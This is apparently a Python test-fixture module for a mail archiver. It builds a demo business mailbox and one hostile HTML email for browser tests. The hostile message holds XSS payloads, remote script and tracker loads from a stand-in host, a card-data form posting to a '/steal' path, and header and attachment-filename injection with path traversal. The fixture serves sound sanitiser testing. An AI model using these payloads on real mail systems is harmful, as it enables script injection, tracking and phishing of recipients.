"""A small, realistic mailbox for the browser test and the screenshots, plus a hostile message.

``demo_messages()`` gives ordinary business mail over a few weeks (some with attachments,
one HTML report with an inline logo and a Bcc recipient). ``hostile_message(remote)`` gives
an HTML message that tries to run script and to load from ``remote`` (a local HTTP server
standing in for a tracker) in every way mail has tried.
"""

from __future__ import annotations

import base64
import struct
import zlib
from datetime import UTC, datetime, timedelta
from email.utils import format_datetime
from typing import Any

from postfix_archiver.envelope import Envelope


def png(width: int, height: int, rgb: tuple[int, int, int]) -> bytes:
    """A solid-colour PNG (for the inline logo)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    row = b"\x00" + bytes(rgb) * width
    raw = zlib.compress(row * height)
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", raw) + chunk(b"IEND", b"")


def _b64(data: bytes) -> str:
    return base64.encodebytes(data).decode()


def _simple(
    n: int,
    when: datetime,
    sender: tuple[str, str],
    to: list[tuple[str, str]],
    subject: str,
    body: str,
    attachment: tuple[str, str, bytes] | None = None,
) -> bytes:
    def fmt(a: tuple[str, str]) -> str:
        return f'"{a[0]}" <{a[1]}>' if a[0] else a[1]

    head = (
        f"From: {fmt(sender)}\nTo: {', '.join(fmt(a) for a in to)}\nSubject: {subject}\n"
        f"Date: {format_datetime(when)}\nMessage-ID: <demo{n}@{sender[1].split('@')[1]}>\n"
        "MIME-Version: 1.0\n"
    )
    if attachment is None:
        return (head + "Content-Type: text/plain; charset=utf-8\n\n" + body + "\n").encode()
    name, ctype, data = attachment
    return (
        head + f'Content-Type: multipart/mixed; boundary="m{n}"\n\n'
        f"--m{n}\nContent-Type: text/plain; charset=utf-8\n\n{body}\n"
        f'--m{n}\nContent-Type: {ctype}; name="{name}"\n'
        f'Content-Disposition: attachment; filename="{name}"\n'
        f"Content-Transfer-Encoding: base64\n\n{_b64(data)}--m{n}--\n"
    ).encode()


ALICE = ("Alice Martin", "alice@example.com")
BOB = ("Bob Chen", "bob@example.com")
CAROL = ("Carol Diaz", "carol@example.com")
DAVE = ("Dave Okafor", "dave@example.org")
FIN = ("Finance", "finance@example.com")
OPS = ("Ops Team", "ops@example.com")


def report_message(when: datetime) -> bytes:
    logo = _b64(png(120, 28, (31, 95, 168)))
    pdf = b"%PDF-1.4\n% quarterly figures\n" + bytes(range(256)) * 40
    html = (
        '<div style="font-family:Arial,sans-serif;color:#222">'
        '<p><img src="cid:logo@example.com" alt="Example Corp" width="120" height="28"></p>'
        "<p>Hi Bob,</p><p>here are the <b>final Q3 numbers</b>. The full report is attached.</p>"
        '<table border="1" cellpadding="6" style="border-collapse:collapse">'
        "<tr><th>Region</th><th>Revenue</th><th>Change</th></tr>"
        '<tr><td>North</td><td>1.24 M€</td><td style="color:green">+8 %</td></tr>'
        '<tr><td>South</td><td>0.97 M€</td><td style="color:#b00">-2 %</td></tr>'
        '<tr><td>Online</td><td>2.10 M€</td><td style="color:green">+21 %</td></tr></table>'
        "<p>Best regards,<br>Alice</p></div>"
    )
    return (
        f'From: "{ALICE[0]}" <{ALICE[1]}>\n'
        f'To: "{BOB[0]}" <{BOB[1]}>\n'
        f'Cc: "{FIN[0]}" <{FIN[1]}>\n'
        "Subject: Q3 report: final numbers\n"
        f"Date: {format_datetime(when)}\n"
        "Message-ID: <q3-final@example.com>\n"
        "MIME-Version: 1.0\n"
        'Content-Type: multipart/mixed; boundary="mixed"\n\n'
        "--mixed\n"
        'Content-Type: multipart/related; boundary="rel"\n\n'
        "--rel\n"
        'Content-Type: multipart/alternative; boundary="alt"\n\n'
        "--alt\nContent-Type: text/plain; charset=utf-8\n\n"
        "Hi Bob,\n\nhere are the final Q3 numbers. The full report is attached.\n\n"
        "North 1.24 M€ +8 %\nSouth 0.97 M€ -2 %\nOnline 2.10 M€ +21 %\n\nBest regards,\nAlice\n"
        "--alt\nContent-Type: text/html; charset=utf-8\n\n" + html + "\n--alt--\n"
        "--rel\nContent-Type: image/png\nContent-ID: <logo@example.com>\n"
        "Content-Transfer-Encoding: base64\n\n" + logo + "--rel--\n"
        '--mixed\nContent-Type: application/pdf; name="Q3-report.pdf"\n'
        'Content-Disposition: attachment; filename="Q3-report.pdf"\n'
        "Content-Transfer-Encoding: base64\n\n" + _b64(pdf) + "--mixed--\n"
    ).encode()


def demo_messages() -> list[tuple[bytes, Envelope]]:
    """Ordinary mail, oldest first; the Q3 report has Carol as a Bcc (envelope) recipient."""
    start = datetime(2025, 1, 6, 8, 30, tzinfo=UTC)
    xlsx = b"PK\x03\x04 budget sheet " * 200
    items: list[tuple[bytes, str, list[str]]] = []

    def add(raw: bytes, sender: str, rcpts: list[str]) -> None:
        items.append((raw, sender, rcpts))

    plan: list[tuple[Any, ...]] = [
        (0, DAVE, [ALICE], "Contract renewal 2025", "Hi Alice,\n\nthe renewal is ready to sign."),
        (1, OPS, [BOB, ALICE], "Maintenance window Saturday 22:00",
         "The mail cluster will be patched on Saturday."),
        (1, FIN, [ALICE], "Invoice 2025-0113", "Please find invoice 2025-0113 attached.",
         ("invoice-2025-0113.pdf", "application/pdf", b"%PDF-1.4 invoice\n" * 300)),
        (2, BOB, [ALICE], "Re: Maintenance window Saturday 22:00", "Works for me."),
        (3, CAROL, [BOB], "Budget meeting agenda", "Agenda for Thursday attached.",
         ("budget-2025.xlsx", "application/vnd.ms-excel", xlsx)),
        (4, ALICE, [BOB, CAROL], "Re: Budget meeting agenda", "Can we add the Q3 review?"),
        (6, OPS, [BOB], "Server outage on mx2 resolved", "mx2 is back; no mail was lost."),
        (7, DAVE, [ALICE], "Signed contract", "Signed copy attached.",
         ("contract-signed.pdf", "application/pdf", b"%PDF-1.4 signed\n" * 500)),
        (8, FIN, [ALICE, BOB], "Weekly summary", "Payments received: 14. Overdue: 2."),
        (9, BOB, [DAVE], "Lunch on Friday?", "The usual place at noon?"),
        (10, CAROL, [ALICE], "Minutes: board meeting", "Minutes attached.",
         ("minutes.docx", "application/msword", b"PK\x03\x04 minutes " * 300)),
        (12, OPS, [ALICE, BOB, CAROL], "Security advisory: update your VPN client",
         "Please update before Monday."),
    ]  # fmt: skip
    for n, (day, sender, to, subject, body, *att) in enumerate(plan):
        when = start + timedelta(days=day, hours=n % 5, minutes=7 * n)
        raw = _simple(n, when, sender, to, subject, body, att[0] if att else None)
        add(raw, sender[1], [a[1] for a in to])
    report = report_message(start + timedelta(days=11, hours=3))
    add(report, ALICE[1], [BOB[1], FIN[1], CAROL[1]])
    return [
        (raw, Envelope(sender, tuple(rcpts), queue_id=f"4Q{i:04X}", client_address="192.0.2.25",
                       client_name="mail.example.com", received=start + timedelta(days=i)))
        for i, (raw, sender, rcpts) in enumerate(items)
    ]  # fmt: skip


def hostile_message(remote: str) -> tuple[bytes, Envelope]:
    """HTML that tries to run script and to fetch from ``remote`` (``http://host:port``)."""
    html = (
        "<html><head>"
        "<script>document.title='PWNED';window.__pwned=1;alert('script')</script>"
        f'<script src="{remote}/evil.js"></script>'
        f'<link rel="stylesheet" href="{remote}/style.css">'
        f"<style>@import url({remote}/import.css); body{{background:url({remote}/bg.png)}}</style>"
        f'<meta http-equiv="refresh" content="0;url={remote}/refresh">'
        f'<base href="{remote}/">'
        "</head><body>"
        "<h1>Overdue invoice</h1>"
        f'<p>Pay now.<img src="{remote}/pixel.png" alt="tracker"></p>'
        "<img src=x onerror=\"window.__pwned=2;alert('onerror')\">"
        f'<div style="background-image:url({remote}/div.png)">styled</div>'
        f'<svg><image href="{remote}/svg.png"/></svg>'
        f'<iframe src="{remote}/frame"></iframe>'
        f'<object data="{remote}/object"></object>'
        f'<video poster="{remote}/poster.png"></video>'
        f'<form action="{remote}/steal"><input name=card><button>Pay</button></form>'
        "<a href=\"javascript:window.__pwned=3;alert('link')\">click me</a>"
        "<p onmouseover=\"alert('hover')\">hover here</p>"
        "</body></html>"
    )
    raw = (
        'From: "Accounts <script>alert(1)</script>" <billing@evil.example>\n'
        "To: bob@example.com\n"
        "Subject: Overdue invoice </title><script>alert('subject')</script>\n"
        "Date: Mon, 20 Jan 2025 09:15:00 +0000\n"
        "Message-ID: <overdue@evil.example>\n"
        "MIME-Version: 1.0\n"
        'Content-Type: multipart/mixed; boundary="h"\n\n'
        "--h\nContent-Type: text/html; charset=utf-8\n\n" + html + "\n"
        '--h\nContent-Type: text/html\nContent-Disposition: attachment; filename="../../'
        '\\"><img src=x onerror=alert(1)>.html"\n\n<script>alert(2)</script>\n'
        "--h--\n"
    ).encode()
    when = datetime(2025, 1, 20, 9, 15, tzinfo=UTC)
    return raw, Envelope("billing@evil.example", ("bob@example.com",), received=when)
